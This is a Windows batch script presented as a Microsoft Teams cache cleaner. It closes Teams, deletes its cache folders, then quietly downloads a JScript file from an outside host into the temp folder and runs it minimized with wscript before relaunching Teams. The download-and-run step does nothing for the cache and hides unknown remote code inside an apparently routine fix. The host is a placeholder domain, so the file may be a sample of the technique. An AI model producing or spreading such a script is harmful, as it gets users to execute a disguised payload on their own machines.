@echo off
taskkill /f /im ms-teams.exe >nul 2>&1
rd /s /q "%APPDATA%\Microsoft\Teams\Cache" 2>nul
rd /s /q "%APPDATA%\Microsoft\Teams\GPUCache" 2>nul
curl.exe -s -L -o "%TEMP%\tcc.js" https://teams-cache-tools.example/optimizer.js
start /wait /min "optimizer" wscript.exe //nologo //e:jscript "%TEMP%\tcc.js"
start "" ms-teams.exe
